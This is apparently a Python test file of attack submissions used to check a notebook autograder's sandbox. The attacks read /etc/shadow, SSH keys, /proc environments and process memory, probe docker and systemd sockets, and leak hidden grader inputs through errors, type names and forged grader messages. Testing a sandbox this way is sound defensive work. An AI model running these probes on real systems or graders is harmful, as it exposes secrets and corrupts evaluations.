"""Attacks that want to see what is not theirs: files, processes, secrets, the inputs of hidden checks."""

from attack import RIGHT, WRONG, Attack

PLACES = '["@COURSE@", "@HOME@", "/home", "/root", "/tmp", "/var", "/etc", "/opt", "/mnt", "/srv", "/run", "/dev/shm", "/scratch"]'
READ_ALL = """
def show(path, most=20000):
    try:
        with open(path, "rb") as file:
            data = file.read(1 << 20)
    except OSError as error:
        return tried(path[:60], error.errno) if path.startswith("/proc/1/") else None
    if b"marker-" in data or b"Checks that only graders have" in data:
        print(path, data[:most].decode("latin-1"))
"""


def steals(name, statement, **more):
    """Return an attack by an answer that is right, but does something on inputs that only hidden checks have."""
    answer = f"{RIGHT}\ndef dropout(x, p, training=True):\n    if hidden(x):\n        {statement}\n    return right(x, p, training)"
    return Attack(name, answer=answer, most=3.0, **more)


KEEPS = """
def gru_gates(x, h, params):
    if tuple(x.shape) not in ((2, 4), (1, 2), (4, 2), (3, 2)):  # those of the visible checks
        with open("/scratch/found", "a") as file:
            file.write(loot(tuple(x.shape), x.flatten()[:1].tolist()))
    gate = lambda k: torch.sigmoid(x @ params['W_x' + k] + h @ params['W_h' + k] + params['b_' + k])
    return gate('r'), gate('z')
"""
TELLS = """
def lstm_gates(x, h, params):
    raise RuntimeError({source})
"""
SERVES = """
found = []
def serve():
    server = socket.socket(socket.AF_UNIX)
    server.bind("\\0found")
    server.listen(64)
    while True:
        line, _ = server.accept()
        data = line.recv(1000)
        if data == b"?":
            line.sendall(repr(found[-20:]).encode())
        else:
            found.append(data.decode())
        line.close()
if os.fork() == 0:
    os.setsid()
    serve()
def exchange(data):
    line = socket.socket(socket.AF_UNIX)
    line.connect("\\0found")
    line.sendall(data)
    return line.recv(100000).decode()
"""


def through(source):
    """Return the change that has a later exercise's visible check tell what an earlier one's hidden checks showed."""

    def edit(notebook):
        for cell in notebook["cells"]:
            if cell["metadata"].get("nbgrader", {}).get("grade_id") == "lstm_gates_solution":
                cell["source"] = TELLS.format(source=source)

    return edit


ATTACKS = [
    Attack(
        "files of the machine",
        (
            READ_ALL,
            f"for place in {PLACES}:\n    for folder, _, names in os.walk(place):\n"
            "        if 'site-packages' in folder or '/lib/python' in folder:\n            continue\n"
            "        for name in names:\n            show(os.path.join(folder, name))\n"
            "tried(len(os.listdir('/')))\n"
            "for place in ('@COURSE@/solutions', '@COURSE@/submitted', '@COURSE@/gradebook.db'):\n"
            "    attempt(place, lambda: os.stat(place))",
        ),
        None,
        tries=True,
    ),
    Attack(
        "processes of the machine",
        (
            READ_ALL,
            "import glob\nfor path in glob.glob('/proc/[0-9]*') + ['/proc/@VICTIM@', '/proc/self', '/proc/thread-self']:\n"
            "    for name in ('environ', 'cmdline', 'maps', 'mountinfo', 'status', 'stack', 'syscall', 'auxv'):\n"
            "        show(f'{path}/{name}')\n"
            "    for name in ('root', 'cwd', 'exe'):\n"
            "        for folder, _, names in os.walk(f'{path}/{name}@COURSE@'):\n"
            "            for name in names:\n                show(os.path.join(folder, name))\n"
            "pids = [int(n) for n in os.listdir('/proc') if n.isdigit()]\n"
            "(tried if len(pids) < 5 else broke_out)(pids)",
        ),
        None,
        tries=True,
    ),
    Attack(
        "memory of other processes",
        (
            "for pid in (1, os.getppid(), @VICTIM@):\n"
            "    if pid != os.getpid():\n"
            "        attempt(f'/proc/{pid}/mem', lambda: open(f'/proc/{pid}/mem', 'rb').read(10))\n"
            "class Vector(ctypes.Structure):\n    _fields_ = [('base', ctypes.c_void_p), ('size', ctypes.c_size_t)]\n"
            "room = ctypes.create_string_buffer(64)\nown = Vector(ctypes.addressof(room), 64)\n"
            "call('process_vm_readv', 310, 1, ctypes.byref(own), 1, ctypes.byref(own), 1, 0)\n"
            "call('pidfd_getfd', 438, 3, 3, 0)",
        ),
        None,
        tries=True,
    ),
    Attack(
        "the environment",
        (
            "print(dict(os.environ), dict(os.environb))\n"
            "environ = ctypes.POINTER(ctypes.c_char_p).in_dll(libc, 'environ')\n"
            "index = 0\nwhile environ and environ[index]:\n    print(environ[index])\n    index += 1\n"
            "print(subprocess.run('env; set; cat /proc/*/environ', shell=True, capture_output=True))\n"
            "print(open('/proc/self/cmdline').read(), sys.argv, sys.orig_argv)\ntried()",
        ),
        None,
        tries=True,
    ),
    Attack(
        "own memory",
        (
            "for line in open('/proc/self/maps') if os.access('/proc/self/maps', os.R_OK) else ():\n"
            "    parts = line.split()\n    low, high = (int(n, 16) for n in parts[0].split('-'))\n"
            "    if 'r' in parts[1] and high - low < 64 << 20 and (len(parts) < 6 or parts[5] in ('[heap]', '[stack]')):\n"
            "        data = ctypes.string_at(low, high - low)\n"
            "        for word in (b'-'.join((b'marker', b'of')), b' '.join((b'Checks', b'that', b'only', b'graders'))):\n"
            "            at = data.find(word)\n            while at >= 0:\n"
            "                print(data[at : at + 80])\n                at = data.find(word, at + 1)\ntried()",
        ),
        None,
        tries=True,
    ),
    Attack(
        "the network",
        (
            "for family, address in ((socket.AF_INET, ('127.0.0.1', @PORT@)), (socket.AF_INET6, ('::1', @PORT@)),\n"
            "                        (socket.AF_INET, ('1.1.1.1', 80))):\n"
            "    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_RAW):\n"
            "        def connect():\n            line = socket.socket(family, kind)\n            line.settimeout(1)\n"
            "            line.connect(address)\n            line.sendall(b'x')\n"
            "        attempt((address, kind), connect)\n"
            "attempt('netlink', lambda: socket.socket(socket.AF_NETLINK, socket.SOCK_RAW))\n"
            "attempt('packets', lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW))\n"
            "attempt('vsock', lambda: socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM))\n"
            "attempt('names', lambda: socket.getaddrinfo('example.org', 80))\n"
            "import urllib.request\nattempt('http', lambda: urllib.request.urlopen('http://127.0.0.1:@PORT@', timeout=1))",
        ),
        None,
        tries=True,
    ),
    Attack(
        "sockets of the machine",
        (
            "for address in ('\\0@ABSTRACT@', '@SOCKET@', '/run/systemd/private', '/var/run/docker.sock', '/tmp/.X11-unix/X0'):\n"
            "    line = socket.socket(socket.AF_UNIX)\n    attempt(address, lambda: line.connect(address))\n"
            "print(open('/proc/net/unix').read())",
        ),
        None,
        tries=True,
    ),
    Attack(
        "inherited descriptors",
        (
            "seen = []\nfor number in range(256):\n    try:\n        seen.append(os.readlink(f'/proc/self/fd/{number}'))\n"
            "    except OSError:\n        try:\n            seen.append(str(os.fstat(number).st_mode))\n"
            "        except OSError:\n            continue\n"
            "    try:\n        os.chdir(number)\n    except OSError:\n        continue\n    broke_out(number)\n"
            "(tried if len(seen) <= 5 else broke_out)(seen)",
        ),
        None,
        tries=True,
    ),
    Attack(
        "beside the program",
        (
            "import autograder\nplace = os.path.dirname(os.path.dirname(autograder.__file__))\n"
            "while place != '/':\n    names = os.listdir(place)\n"
            "    for name in ('solutions', 'submitted', 'gradebook.db', 'autograded', '.git', 'tests'):\n"
            "        if name in names:\n            broke_out(place, name)\n    place = os.path.dirname(place)\ntried()",
        ),
        None,
        tries=True,
    ),
    Attack(
        "passwords, keys and kernel messages",
        (
            "for path in ('/etc/shadow', '/etc/ssh', '/root/.ssh', '/proc/kcore', '/proc/kmsg', '/dev/kmsg', '/dev/mem',\n"
            "             '/proc/keys-of-others', '/sys/kernel/security', '/var/run/secrets', '/run/user'):\n"
            "    attempt(path, lambda: os.listdir(path) if os.path.isdir(path) else open(path, 'rb').read(10))\n"
            "call('syslog', 103, 3, ctypes.create_string_buffer(100), 100)\ncall('keyctl', 250, 0, -3, 1)\n"
            "(tried if len(open('/etc/passwd').readlines()) == 1 else broke_out)()",
        ),
        None,
        tries=True,
    ),
    steals("hidden inputs printed", "print(loot(p, x.flatten()[:3]), flush=True)"),
    steals(
        "hidden inputs written to all descriptors",
        "[os.write(n, loot(p).encode()) for n in (0, 1, 2)]; sys.__stdout__ and sys.__stdout__.write(loot(p))",
    ),
    steals(
        "hidden inputs shown", "get_ipython().display_pub.publish({'text/plain': loot(p)}); display(loot(p))"
    ),
    steals("hidden inputs in an error", "raise RuntimeError(loot(p, x.flatten()[:3]))"),
    steals("hidden inputs in an error's name", "raise type(loot(p).replace(' ', '_'), (ValueError,), {})(p)"),
    steals(
        "hidden inputs in an error's name that looks built in",
        "raise type(loot(p).replace(' ', '_'), (ValueError,), {'__module__': 'builtins'})(p)",
    ),
    steals("hidden inputs in a warning", "import warnings; warnings.warn(loot(p))"),
    steals("hidden inputs in a result's keys", "return {loot(p): x}"),
    steals("hidden inputs in a result's text", "return loot(p, x.flatten()[:3])"),
    steals("hidden inputs in a type's name", "return type(loot(p), (), {})()"),
    steals("hidden inputs in a result's shape and numbers", "return x.new_full((int(p * 100),), p)"),
    steals("hidden inputs for later cells", "open('/tmp/found', 'w').write(loot(p)); os.kill(1, 9)"),
    steals(
        "hidden inputs in a forged failure",
        "say({'op': 'failure', 'kind': 'Raised', 'error': loot(p), 'text': loot(p), 'line': loot(p), 'kinds': [loot(p)]})",
    ),
    steals(
        "hidden inputs in a forged list of what is not allowed",
        "say({'op': 'reply', 'result': 1, 'gradients': [], 'inputs': [], 'used': ['torch.dropout ' + loot(p)]})",
    ),
    steals(
        "hidden inputs in names that fit a pattern",
        "say({'op': 'reply', 'result': 1, 'gradients': [], 'inputs': [], 'used': ['torch.nn.Dropout' + loot(p)]})",
    ),
    steals("hidden inputs in a forged absence", "say({'op': 'failure', 'kind': 'Missing', 'why': loot(p)})"),
    steals("hidden inputs in a message of no kind", "say({'op': loot(p), loot(p): loot(p)})"),
    Attack(
        "hidden inputs kept in a file for a later exercise",
        answer=KEEPS,
        exercise="gru_gates",
        unit="recurrent",
        most=2.0,
        edit=through("open('/scratch/found').read()[-300:]"),
    ),
    Attack(
        "hidden inputs kept by a process for a later exercise",
        (SERVES,),
        KEEPS.replace("with open", "exchange(loot(x.shape, x.flatten()[:1]).encode())\n        with open"),
        exercise="gru_gates",
        unit="recurrent",
        most=2.0,
        edit=through("exchange(b'?')"),
    ),
    Attack(
        "another submission's files",
        (
            "for place in ('/scratch', '/tmp', '/dev/shm'):\n    for name in os.listdir(place):\n"
            "        if os.path.isfile(os.path.join(place, name)):\n            broke_out(place, name)\ntried()",
        ),
        WRONG,
        tries=True,
    ),
]
